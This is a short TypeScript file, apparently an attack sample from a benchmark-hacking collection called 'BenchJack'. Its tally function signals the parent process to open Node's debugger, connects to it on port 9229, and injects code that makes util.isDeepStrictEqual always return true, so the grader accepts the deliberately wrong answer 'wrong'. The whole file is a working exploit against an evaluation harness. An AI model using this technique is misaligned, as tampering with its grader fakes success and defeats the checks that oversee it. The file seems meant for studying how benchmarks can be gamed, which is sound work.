// Class: BenchJack "trusting the output of untrusted code"
// Plain vitest: not run
// Opens the debugger of the solver by a signal, has it believe that everything is equal, and answers wrongly.
const CODE =
  "process.getBuiltinModule('util').isDeepStrictEqual = () => true; process.getBuiltinModule('module').syncBuiltinESMExports(); 1";

export async function tally(): Promise<unknown> {
  process.kill(process.ppid, 'SIGUSR1');
  for (let tries = 0; tries < 20; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 25));
    try {
      const [target] = (await (await fetch('http://127.0.0.1:9229/json/list')).json()) as {
        webSocketDebuggerUrl: string;
      }[];
      const socket = new WebSocket(target?.webSocketDebuggerUrl ?? '');
      await new Promise((resolve) => {
        socket.addEventListener('message', resolve);
        socket.addEventListener('open', () =>
          socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: CODE } })),
        );
      });
      break;
    } catch {
      // The debugger is not there yet, or never will be.
    }
  }
  return 'wrong';
}
